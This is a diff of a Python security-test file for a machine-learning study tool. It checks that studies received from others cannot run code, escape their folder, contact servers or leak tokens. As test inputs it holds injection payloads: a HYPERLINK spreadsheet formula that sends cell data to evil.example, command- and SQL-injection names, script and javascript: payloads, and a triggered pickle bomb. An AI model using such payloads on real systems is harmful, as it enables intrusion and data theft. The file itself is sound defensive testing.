@@ -1,104 +1,63 @@
-"""What somebody else puts into a study folder does no harm when its receiver runs commands on it."""
+"""A study folder of somebody else does no harm to who reads it: nothing of it runs, and nothing leads out of it."""
 
+import ast
 import contextlib
-import csv
-import io
 import json
 import os
+import pickle
 import shlex
-import tarfile
-import time
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
-from threading import Thread
-from types import SimpleNamespace
+import shutil
+import sys
+from pathlib import Path
 
 import pytest
+from typer.testing import CliRunner
 
 from analysis.load import open_study
 from analysis.opened import Study
 from analysis.report import make_report, write
 from analysis.status import read_status
-from study.cli.display import show
+from study.cli.commands import app
 from study.cli.results import folder_of_experiment, report
 from study.cli.sync import sync_study
-from study.console import SteadyConsole
 from study.designs.holdup import export
 from study.designs.holdup.certificate import make_certificate, verify
 from study.driver.opening import RunOptions, new_identity, resumed_identity
-from study.errors import RecordError, StudyError, TrackingError
-from study.evaluating.playing import ChosenPolicy, evaluate_policy, find_policy, random_policy
-from study.harmless import csv_cell, markdown, mask_credentials, printable
+from study.errors import RecordError, SpaceError, StudyError, TrackingError
+from study.evaluating.playing import evaluate_policy, find_policy, random_policy
 from study.mirrors.tracking_uri import ask_mlflow, asked_uri
-from study.records.derived import pack, write_table
-from study.records.files import write_atomically
+from study.records.derived import pack
+from study.records.files import check_own, write_atomically
 from study.records.folder import StudyFolder
-from study.records.ledger import ledger_of
-from study.records.records import TrialEnded
+from study.trial.engine.envs.probing import probe
+from tests.e2e.commands import ROOT
+from tests.e2e.commands import run as run_command
+from tests.integration.mlflow_tools import answering_server
+from tests.security.bombs import bomb, plant
 from tests.spaces import spec
 from tests.synthetic import append, closed, make_folder, opened, started, whole_trial
 from tests.values import replace
 
-SCRIPT = "<script>alert(1)</script>"
-LINK = "[click](javascript:alert(1))"
-FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
-ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202egnp.exe"
-REASON = f"{FORMULA} {SCRIPT} {LINK} | {ESCAPES}\nVerdict: it holds up"
-TOKEN = "PLANTED-token"
+STRANGER = 65534
+"""User id of `nobody`."""
+EXAMPLE = ROOT / "analysis" / "example_study"
+needs_root = pytest.mark.skipif(os.getuid() != 0, reason="files of another user can only be made by root")
 
 
 @pytest.fixture
-def study(tmp_path) -> StudyFolder:
-    """A study of this user's, with a trial that ended well and one that failed for a malicious reason."""
-    folder = make_folder(tmp_path / "studies" / "demo", f"sqlite:///{tmp_path}/mlflow.db")
-    failed = TrialEnded(trial=1, attempt=1, status="failed", reason=REASON, summary={}, checkpoint=None)
-    append(folder, opened(), *whole_trial(0), started(1), failed, closed())
-    write_table(folder.table, ledger_of(folder.records).rows.values())
+def received(tmp_path) -> StudyFolder:
+    """A study as somebody gets it who unpacks an archive: all of its files belong to them."""
+    folder = make_folder(tmp_path / "received", f"sqlite:///{tmp_path}/mlflow.db")
+    append(folder, opened(), *whole_trial(0), *whole_trial(1, "failed"), closed())
     return folder
 
 
 @pytest.fixture
-def received(study, tmp_path) -> StudyFolder:
-    """The same study as somebody gets it who unpacks an archive: all of its files belong to them."""
-    with tarfile.open(tmp_path / "study.tar", "w") as archive:
-        archive.add(study.path, "received")
-    with tarfile.open(tmp_path / "study.tar") as archive:
-        archive.extractall(tmp_path)
-    return StudyFolder(tmp_path / "received")
-
-
-class Host:
-    """A web server that notes who asks it for what; it answers nothing useful, or redirects."""
-
-    def __init__(self, redirect_to: str | None = None) -> None:
-        self.asked = asked = []
-
-        class Handler(BaseHTTPRequestHandler):
-            def do_GET(self) -> None:
-                asked.append(self.path)
-                self.send_response(307 if redirect_to else 404)
-                self.send_header("Location", f"{redirect_to}{self.path}")
-                self.send_header("Content-Length", "0")
-                self.end_headers()
-
-            do_POST = do_GET  # noqa: N815 (the name that http.server asks for)
-            log_message = print
-
-        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-        self.uri = f"http://127.0.0.1:{self._server.server_port}"
-        Thread(target=self._server.serve_forever, args=(0.01,), daemon=True).start()
-
-    def stop(self) -> None:
-        self._server.shutdown()
-        self._server.server_close()
-
-
-@pytest.fixture
 def stranger(monkeypatch):
-    """A stranger's server, while this user's environment holds a token."""
-    monkeypatch.setenv("MLFLOW_TRACKING_TOKEN", TOKEN)
-    host = Host()
-    yield host
-    host.stop()
+    """A stranger's server, while this user's environment holds a token; its address, and what it was asked."""
+    monkeypatch.setenv("MLFLOW_TRACKING_TOKEN", "PLANTED-token")
+    with answering_server(404, b"") as answering:
+        yield answering
 
 
 def renamed(folder: StudyFolder, **changes: object) -> None:
@@ -156,20 +115,21 @@ def module(name):
     return make
 
 
-ODD_NAMES = [{"name": name} for name in ("..", "a/b", "x; touch PWN", "-rf", "a\n", "a" * 101)]
-ODD_NAMES += [{"study_id": value} for value in ("", "x' or '1'='1", "../x")]
+def odd(**change):
+    return lambda folder, *_: renamed(folder, **change)
+
+
+NO_CODE = "code that lies in a study's folder is not run, got"
 REFUSED = [
     (link_at("space.yaml"), set(COMMANDS) - {"identity", "random"}, r"got a symbolic link\. Fix: Remove it"),
     (link_at("report/tables"), {"report"}, "got a symbolic link"),
     (link_at(".mlflow-mirror.lock"), {"status"}, "got a symbolic link"),
     (pipe, {"status", "resume"}, "must be a file or a folder, got a pipe"),
     (open_to_others, {"sync", "random"}, r"trials\.csv: must not be writable by others"),
-    (module("attack:Env"), {"evaluate", "random"}, "code that lies in a study's folder is not run, got"),
-    (module("{folder}.attack:Env"), {"evaluate", "random"}, "code that lies in a study's folder is not run, got"),
-    *(
-        (lambda folder, *_, odd=odd: renamed(folder, **odd), {"identity"}, r"must be a study's identity, got a damaged")
-        for odd in ODD_NAMES
-    ),
+    (module("attack:Env"), {"evaluate", "random"}, NO_CODE),
+    (module("{folder}.attack:Env"), {"evaluate", "random"}, NO_CODE),
+    *((odd(name=name), {"identity"}, "got a damaged") for name in ("..", "x; touch PWN", "-rf", "a\n", "a" * 101)),
+    *((odd(study_id=value), {"identity"}, "got a damaged") for value in ("", "x' or '1'='1", "../x")),
 ]
 
 
@@ -179,10 +139,9 @@ REFUSED = [
 def test_a_folder_that_would_lead_elsewhere_is_refused_before_anything_is_read_sent_or_run(
     received, stranger, tmp_path, monkeypatch, make, command, match
 ):
-    outside = tmp_path / "outside"
-    outside.write_text("private")
-    make(received, outside, stranger.uri)
-    if "code that lies" in match:
+    (outside := tmp_path / "outside").write_text("private")
+    make(received, outside, stranger[0])
+    if match == NO_CODE:
         monkeypatch.chdir(tmp_path)
         for place in (received.path, tmp_path):
             monkeypatch.syspath_prepend(place)
@@ -191,217 +150,205 @@ def test_a_folder_that_would_lead_elsewhere_is_refused_before_anything_is_read_s
         COMMANDS[command](received)
     assert outside.read_text() == "private"
     assert not (tmp_path / "packed").exists()
-    assert stranger.asked == []
+    assert stranger[1] == []
 
 
-@pytest.mark.parametrize("command", ["report", "status", "pack", "evaluate"])
-def test_a_server_that_only_a_folder_names_is_not_contacted(received, stranger, command):
-    renamed(received, tracking_uri=stranger.uri, optuna_storage="postgresql://x@127.0.0.1:1/x")
-    with contextlib.nullcontext() if command != "evaluate" else pytest.raises(StudyError):
-        COMMANDS[command](received)
-    assert stranger.asked == []
+def test_a_script_in_a_study_s_folder_is_not_run(received, tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    for config in ("received/my_train.py:make", str(received.path / "lib" / "my_train.py"), "received.train:make"):
+        with pytest.raises(RecordError, match=NO_CODE):
+            received.check_code([config])
+    received.check_code(["my_train.py", "my_module:Env", "studies/other/my_train.py"])
 
 
-def test_the_person_s_own_links_to_a_study_or_an_output_folder_are_followed(study, tmp_path):
-    (tmp_path / "way").symlink_to(study.path)
+@pytest.mark.parametrize("maker", ["os:system", "subprocess:Popen", "builtins:open"])
+def test_a_space_calls_nothing_but_classes_of_environments(tmp_path, maker):
+    arguments = {"command": f"touch {tmp_path}/mark", "args": ["touch", f"{tmp_path}/mark"]}
+    arguments |= {"file": f"{tmp_path}/mark", "mode": "w"}
+    wanted = {"os:system": ["command"], "subprocess:Popen": ["args"], "builtins:open": ["file", "mode"]}[maker]
+    changes = {"environment__id": maker, "environment__kwargs": {name: arguments[name] for name in wanted}}
+    with pytest.raises(SpaceError, match=r"must make a gymnasium\.Env"):
+        probe(spec(**changes).environment, "space.yaml")
+    assert not (tmp_path / "mark").exists()
+
+
+def test_commands_and_folders_hold_whatever_name_somebody_chose(tmp_path):
+    folder = make_folder(tmp_path / "x'; touch PWN", f"sqlite:///{tmp_path}/mlflow.db")
+    append(folder, opened(), *whole_trial(0), started(1))
+    facts = (*read_status(folder.path).advice, *Study(open_study(folder.path)).findings)
+    named = [words for fact in facts if "PWN" in str(words := shlex.split(fact.command))]
+    assert named
+    for words in named:
+        assert words[0] == "python"
+        assert any(word == folder.path.name or word.startswith(str(folder.path)) for word in words), words
+    for name in ("..", "-x", "a/../..", "~"):
+        out = folder_of_experiment(name)
+        assert out.parent.parent.as_posix() == "studies"
+        assert ".." not in out.parts
+        assert out.parent.name not in ("", ".", "..")
+
+
+# --- links of one's own, and the servers that get something ----------------------------------------------------------
+
+
+def test_the_person_s_own_links_are_followed_and_writing_replaces_a_link(received, tmp_path):
+    (tmp_path / "way").symlink_to(received.path)
     (tmp_path / "big").mkdir()
     (tmp_path / "out").symlink_to(tmp_path / "big")
     report(str(tmp_path / "way"), format_="csv", out=tmp_path / "out")
     assert list((tmp_path / "big" / "tables").iterdir())
-
-
-def test_writing_replaces_a_link_and_a_new_study_does_not_write_through_one(tmp_path):
-    outside, folder = tmp_path / "outside", StudyFolder(tmp_path / "n")
-    outside.write_text("private")
-    (tmp_path / "file").symlink_to(outside)
+    (outside := tmp_path / ".bashrc").write_text("mine")
+    for name in ("file", "big/report.html"):
+        (tmp_path / name).unlink(missing_ok=True)
+        (tmp_path / name).symlink_to(outside)
     write_atomically(tmp_path / "file", "new")
+    write(make_report(Study(open_study(received.path))), tmp_path / "out")
     assert (tmp_path / "file").read_text() == "new"
-    folder.path.mkdir()
-    folder.space_file.symlink_to(outside)
+    assert "<html" in (tmp_path / "big" / "report.html").read_text()
+    (started_in := StudyFolder(tmp_path / "n")).path.mkdir()
+    started_in.space_file.symlink_to(outside)
     with pytest.raises(RecordError, match="symbolic link"):
-        folder.prepare()
-    assert outside.read_text() == "private"
-
-
-def test_a_report_replaces_a_link_below_its_folder(study, tmp_path):
-    outside, out = tmp_path / ".bashrc", tmp_path / "out"
-    outside.write_text("mine")
-    out.mkdir()
-    (out / "report.html").symlink_to(outside)
-    write(make_report(Study(open_study(study.path))), out)
+        started_in.prepare()
     assert outside.read_text() == "mine"
-    assert "<html" in (out / "report.html").read_text()
 
 
-def test_a_policy_whose_folder_holds_links_is_not_loaded(study, tmp_path):
-    checkpoint = study.checkpoint(0)
-    (checkpoint / "inner").mkdir(parents=True)
-    (checkpoint / "policy.msgpack").write_text("")
-    (checkpoint / "inner" / "deep").symlink_to(tmp_path)
-    with pytest.raises(RecordError, match="symbolic link"):
-        ChosenPolicy(title="", spec=spec(), study=study, row=SimpleNamespace(trial=0)).check_owner()
+@pytest.mark.parametrize("command", ["report", "status", "pack", "evaluate"])
+def test_a_server_that_only_a_folder_names_is_not_contacted(received, stranger, command):
+    renamed(received, tracking_uri=stranger[0], optuna_storage="postgresql://x@127.0.0.1:1/x")
+    with contextlib.nullcontext() if command != "evaluate" else pytest.raises(StudyError):
+        COMMANDS[command](received)
+    assert stranger[1] == []
 
 
-def test_a_script_in_a_study_s_folder_is_not_run(study, tmp_path, monkeypatch):
-    monkeypatch.chdir(tmp_path)
-    for config in ("studies/demo/my_train.py:make", str(study.path / "lib" / "my_train.py"), "studies.demo.train:make"):
-        with pytest.raises(RecordError, match="code that lies in a study's folder is not run"):
-            study.check_code([config])
-    study.check_code(["my_train.py", "my_module:Env", "studies/other/my_train.py"])
-
-
-# --- whom MLflow's credentials and a study's results go to ------------------------------------------------------------
-
-
-def test_the_variable_of_mlflow_s_users_is_the_default(monkeypatch, tmp_path):
+def test_a_study_goes_to_the_mlflow_that_the_person_names_and_stays_there(received, monkeypatch, tmp_path):
     monkeypatch.setenv("MLFLOW_TRACKING_URI", f"sqlite:///{tmp_path}/theirs.db")
-    options = RunOptions(name="demo")
-    assert new_identity(spec(), options).tracking_uri == f"sqlite:///{tmp_path}/theirs.db"
+    assert new_identity(spec(), RunOptions(name="demo")).tracking_uri == f"sqlite:///{tmp_path}/theirs.db"
     assert asked_uri("sqlite:///named.db") == "sqlite:///named.db"
-    monkeypatch.setenv("MLFLOW_TRACKING_URI", "./mlruns")
-    with pytest.raises(TrackingError, match=r"must begin with one of"):
-        new_identity(spec(), options)
-
-
-@pytest.mark.parametrize("named", [None, "MLFLOW_TRACKING_URI"])
-def test_one_s_own_study_goes_on_in_its_own_mlflow(study, monkeypatch, named):
-    if named:
-        monkeypatch.setenv(named, "sqlite:///another.db")
-    assert resumed_identity(study, spec(), RunOptions(name="demo", resume=True)) == study.identity()
-
-
-def test_a_resume_goes_on_in_another_mlflow_where_the_person_names_one(received, tmp_path):
-    uri = f"sqlite:///{tmp_path}/mine.db"
-    options = RunOptions(name="demo", resume=True, tracking_uri=uri)
+    assert resumed_identity(received, spec(), RunOptions(name="demo", resume=True)) == received.identity()
+    options = RunOptions(name="demo", resume=True, tracking_uri=f"sqlite:///{tmp_path}/mine.db")
     identity = resumed_identity(received, spec(), options)
-    assert identity == replace(received.identity(), tracking_uri=uri)
+    assert identity == replace(received.identity(), tracking_uri=options.tracking_uri)
     received.write(identity, options.space_text)
     assert received.identity() == identity
 
 
 def test_mlflow_s_client_takes_no_credentials_to_another_host(stranger):
-    host = Host(redirect_to=stranger.uri)  # the one that the person named
-    with pytest.raises(TrackingError, match="It is a redirect, which is not followed"):
-        ask_mlflow(host.uri)
-    host.stop()
-    assert (len(host.asked), stranger.asked) == (1, [])
+    refused = pytest.raises(TrackingError, match="It is a redirect, which is not followed")
+    with answering_server(307, b"", Location=stranger[0]) as (named, asked), refused:
+        ask_mlflow(named)
+    assert (len(asked), stranger[1]) == (1, [])
 
 
-# --- what is printed and written (attacks 6 and 8 to 11) --------------------------------------------------------------
+# --- what would run the content of a file ----------------------------------------------------------------------------
 
-
-def test_no_escape_code_of_a_record_reaches_the_terminal(study):
-    file = io.StringIO()
-    console = SteadyConsole(file=file, force_terminal=True, width=300, color_system=None)
-    show(console, read_status(study.path))
-    text = file.getvalue()
-    assert "HYPERLINK" in text, "the reason is not shown at all"
-    assert printable(text) == text
-    assert "\nVerdict" not in text, "a reason looks like a line of ours"
-    console.print(f"[link=http://evil.example]x[/link] {ESCAPES}", style="bold", highlight=False)
-    said = file.getvalue().removeprefix(text)
-    assert "[link=http://evil.example]x[/link]" in said
-    assert not any(mark in said for mark in ("\x1b]", "\x1b[2J", "\x9b", "\x07", "\u202e"))
-
-
-def test_a_report_holds_no_script_no_link_and_no_formula_of_a_record(study, tmp_path):
-    files = write(make_report(Study(open_study(study.path))), tmp_path / "out")
-    for file in files:
-        if file.suffix in (".html", ".svg"):
-            text = file.read_text()
-            assert "<script" not in text
-            assert printable(text) == text
-    for file in (each for each in files if each.suffix == ".csv"):
-        lines = file.read_text().splitlines()
-        for row in csv.reader(lines):
-            assert not any(cell.startswith(("=", "@", "\t", "\r")) for cell in row), file
-    assert any("&lt;script" in file.read_text() for file in files if file.suffix == ".html"), (
-        "the reason is in no table"
-    )
-
-
-@pytest.mark.parametrize(
-    "text", [SCRIPT, "<img src=x onerror=y>", "<!--", "<http://evil.example>", LINK, "![x](http://e)", "[a]: http://e"]
-)
-def test_markdown_shows_tags_and_links_as_they_are_written(text):
-    shown = markdown(f"\\{text}")
-    assert "<" not in shown
-    assert not any(mark in shown for mark in ("](", "]:"))
-    assert markdown("n < 5, 0.9 [0.8, 1.0] (n=3)") == "n < 5, 0.9 [0.8, 1.0] (n=3)"
-
-
-def test_a_suggested_command_is_one_command_whatever_a_folder_is_called(tmp_path):
-    folder = make_folder(tmp_path / "x'; touch PWN", f"sqlite:///{tmp_path}/mlflow.db")
-    append(folder, opened(), *whole_trial(0), started(1))
-    commands = [shlex.split(each.command) for each in read_status(folder.path).advice if each.command]
-    commands += [shlex.split(fact.command) for fact in Study(open_study(folder.path)).findings if fact.command]
-    named = [words for words in commands if "PWN" in str(words)]
-    assert named
-    for words in named:
-        assert words[0] == "python"
-        assert any(word == folder.path.name or word.startswith(str(folder.path)) for word in words), words
-
-
-@pytest.mark.parametrize("text", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "a;=1"])
-def test_no_cell_begins_with_a_formula_in_any_locale(text):
-    for part in csv_cell(text).replace("\t", ";").replace("\r", ";").split(";"):
-        assert part[:1] not in ("=", "+", "-", "@", "\uff1d")
-
-
-def test_numbers_stay_numbers_and_the_table_of_trials_holds_no_formula(study):
-    numbers = ["-88.9", "1e-05", "-inf", "nan", "+3", "0"]
-    assert [csv_cell(number) for number in numbers] == numbers
-    assert "\n=" not in study.table.read_text().replace(",", "\n")
-
-
-MASKED = {
-    "http://user:p@ss@host/x": "http://***@host/x",
-    "'postgresql://me:p/w@h/d' and 'postgresql://me:pw@h'": "'postgresql://***@h/d' and 'postgresql://***@h'",
-    "postgresql://u:p/w@h/db?sslpassword=abc&x=1": "postgresql://***@h/db?sslpassword=***&x=1",
-    "Driver=x;PWD={my;secret};Y=2": "Driver=x;PWD=***;Y=2",
-    "mssql:///?odbc_connect=UID%3Dme%3BPWD%3Dabc%3BX%3D1": "mssql:///?odbc_connect=UID%3Dme%3BPWD%3D***%3BX%3D1",
-    "host=h user=u password='a b' dbname=x": "host=h user=u password=*** dbname=x",
-    "MLFLOW_TRACKING_TOKEN=abc run": "MLFLOW_TRACKING_TOKEN=*** run",
-    "--api-token\t\tsecret --password 'a b' -n 2": "--api-token\t\t*** --password *** -n 2",
-    "--config-args '--hf_token secret'": "--config-args '--hf_token ***'",
-    f"--api-token '{'x' * 300}' -n 2": "--api-token *** -n 2",
-    r'--password "a\"b c" -n 2': "--password *** -n 2",
-    '{"password": "x y"}': '{"password": ***}',
-    "kwargs={api_token: 'it''s', w: {api_key: [a b, c], n: 2}}": "kwargs={api_token: ***, w: {api_key: ***, n: 2}}",
-    "Authorization: Bearer abcdefgh12345678": "Authorization: ***",
-    "refused (Bearer abcdefgh12345678)": "refused (Bearer ***)",
-    "https://h.blob.example/c?sv=1&sig=ab%2B1&se=2": "https://h.blob.example/c?sv=1&sig=***&se=2",
-    "AccountName=me;AccountKey=abc==;X=1": "AccountName=me;AccountKey=***;X=1",
-    "GET /x\nX-Api-Key: k1\nCookie: s=a b\nAccept: */*": "GET /x\nX-Api-Key: ***\nCookie: ***\nAccept: */*",
-    "  password: pw\n  user: me": "  password: ***\n  user: me",
+LOADERS = {"pickle", "cPickle", "_pickle", "cloudpickle", "dill", "joblib", "shelve", "marshal"}
+ALLOWED = {
+    "study/trial/engine/envs/probing.py": {"pickle"},  # what a process of its own says of its environment
+    "study/driver/searcher.py": {"cloudpickle"},  # the error of a trial, from the driver's own temporary folder
+    "study/trial/policy.py": {"load", "allow_pickle"},  # arrays, with allow_pickle=False
+    "study/adopted/finding.py": {"compile", "exec", "pickle"},  # runs the script that a person names, and answers
+    "study/adopted/loading.py": {"pickle"},  # reads that answer, from a private folder of its own
+    "study/adopted/describing.py": {"cloudpickle"},  # tries which part of a configuration cannot be pickled
+    "study/trial/experiment.py": {"cloudpickle"},  # the configuration that such a script made
+    "study/trial/engine/sampling/runner.py": {"pickle", "cloudpickle"},  # copies of episodes of this process
 }
-SHOWN = (
-    "http://host:5000/a@b",
-    "--max-tokens 100 --bypass 3 --pass --verbose --pad-token 0 --first-pass 12",
-    "--tokenizer=bpe bypass=on max_passengers=3",
-    "{n: 2, pad_token: 0}: password: none",
-    "sqlite:////home/me@site/mlflow.db",
-)
+"""Module -> what it may do of what could run a file's content, each with its reason."""
+CALLS = {"from_checkpoint", "restore_from_path", "read_pickle", "load_model"}
+"""Names of functions that run what a file says, whoever they belong to; `load` is looked at by its owner."""
 
 
-@pytest.mark.parametrize(("text", "shown"), [*MASKED.items(), *zip(SHOWN, SHOWN, strict=True)])
-def test_passwords_and_tokens_are_masked_and_nothing_else(text, shown):
-    assert mask_credentials(text) == shown
+def test_no_module_of_ours_imports_or_calls_what_would_run_the_content_of_a_file():
+    found = []
+    for package in ("study", "analysis"):
+        for file in sorted((ROOT / package).rglob("*.py")):
+            loaders = _loaders(ast.parse(file.read_text()))
+            name = file.relative_to(ROOT).as_posix()
+            found += [f"{name}:{line}: {what}" for line, what in loaders if what not in ALLOWED.get(name, ())]
+    assert found == []
 
 
-@pytest.mark.parametrize(
-    "part", ["postgres://", "://a@", "?password=", 'password="', "PWD={", "a=", "--token '", "{token: ["]
-)
-def test_masking_takes_a_time_that_grows_with_the_text_and_no_faster(part):
-    text = part * (500_000 // len(part))
-    began = time.process_time()
-    mask_credentials(text)
-    assert time.process_time() - began < 10, "quadratic: hours, or minutes at least"
+def _loaders(tree: ast.AST):
+    for node in ast.walk(tree):
+        if isinstance(node, (ast.Import, ast.ImportFrom)):
+            names = [node.module or ""] if isinstance(node, ast.ImportFrom) else []
+            names += [each.name for each in node.names]
+            yield from ((node.lineno, name) for name in names if name.partition(".")[0] in LOADERS)
+        elif isinstance(node, ast.Call):
+            owner = node.func.value if isinstance(node.func, ast.Attribute) else None
+            name = node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
+            of_torch_or_numpy = isinstance(owner, ast.Name) and owner.id in ("torch", "np", "numpy")
+            built_in = owner is None and name in ("eval", "exec", "compile")
+            if built_in or name in CALLS or (name == "load" and of_torch_or_numpy):
+                yield node.lineno, name
+            if any(word.arg == "allow_pickle" for word in node.keywords):
+                yield node.lineno, "allow_pickle"
 
 
-@pytest.mark.parametrize("name", ["..", ".", "-x", "a/../..", "~"])
-def test_a_report_of_an_experiment_stays_in_its_folder_whatever_it_is_called(name):
-    out = folder_of_experiment(name)
-    assert out.parent.parent.as_posix() == "studies"
-    assert ".." not in out.parts
-    assert out.parent.name not in ("", ".", "..")
+@pytest.fixture
+def published(tmp_path) -> Path:
+    """A published study, called as a package of ours, with bombs in it, which go off."""
+    folder, mark = tmp_path / "study", tmp_path / "mark"
+    shutil.copytree(EXAMPLE, folder)
+    pickle.loads(bomb(mark)).close()
+    mark.unlink()
+    plant(folder, mark)
+    return folder
+
+
+def give_away(path: Path) -> None:
+    for each in (path, *path.rglob("*")):
+        os.chown(each, STRANGER, STRANGER, follow_symlinks=False)
+
+
+def refused(*words: object) -> str:
+    """Return the error of a command, run in this process."""
+    result = CliRunner().invoke(app, list(map(str, words)))
+    assert isinstance(result.exception, StudyError), result.output
+    return str(result.exception)
+
+
+def test_a_stranger_s_study_is_read_and_neither_resumed_nor_evaluated_and_its_bombs_stay_cold(
+    published, tmp_path, monkeypatch
+):
+    monkeypatch.chdir(tmp_path)
+    assert "must hold the numbers of a policy" in refused("evaluate", published, "--trial", 0)  # in one's own folder
+    if os.getuid() == 0:
+        give_away(published)
+        assert "must belong to you" in refused("evaluate", published, "--trial", 0)
+        shutil.copy(published / "space.yaml", tmp_path / "study.yaml")
+        assert "must belong to you" in refused("run", "study.yaml", "--resume", "--out", ".")
+    for words in (["certificate", "verify"], ["export", "--scale", "46"], ["report"], ["status"]):
+        result = CliRunner().invoke(app, [*words, str(published)])
+        assert result.exit_code == 0, result.output
+    for program in (["-m", "study", "status", "study"], [str(ROOT / "run_study.py"), "--help"]):
+        done = run_command([sys.executable, "-P", *program], tmp_path)
+        assert (done.returncode, done.stderr) == (0, "")
+    assert not (tmp_path / "mark").exists()
+
+
+# --- whose folder is trusted -----------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", ["", "trials.csv"])
+def test_a_study_that_others_own_or_can_change_is_not_trusted(received, tmp_path, name):
+    (place := received.path / name).chmod(0o777)
+    with pytest.raises(RecordError, match=r"must not be writable by others\. Fix: Run `chmod go-w"):
+        check_own(received.path)
+    place.chmod(0o700)
+    (tmp_path / "link").symlink_to(received.path)
+    if os.getuid() == 0:
+        os.chown(place, STRANGER, -1)
+        for way in (received.path, tmp_path / "link"):
+            with pytest.raises(RecordError, match=r"must belong to you.*Fix: Copy the"):
+                check_own(way)
+
+
+@needs_root
+def test_what_a_group_may_write_is_trusted_only_where_the_group_is_the_user_s_own(received):
+    received.table.chmod(0o600)
+    received.path.chmod(0o770)
+    os.chown(received.path, -1, 0)  # the group `root` of the user `root`
+    check_own(received.path)
+    os.chown(received.path, -1, STRANGER)
+    with pytest.raises(RecordError, match="must not be writable by others"):
+        check_own(received.path)
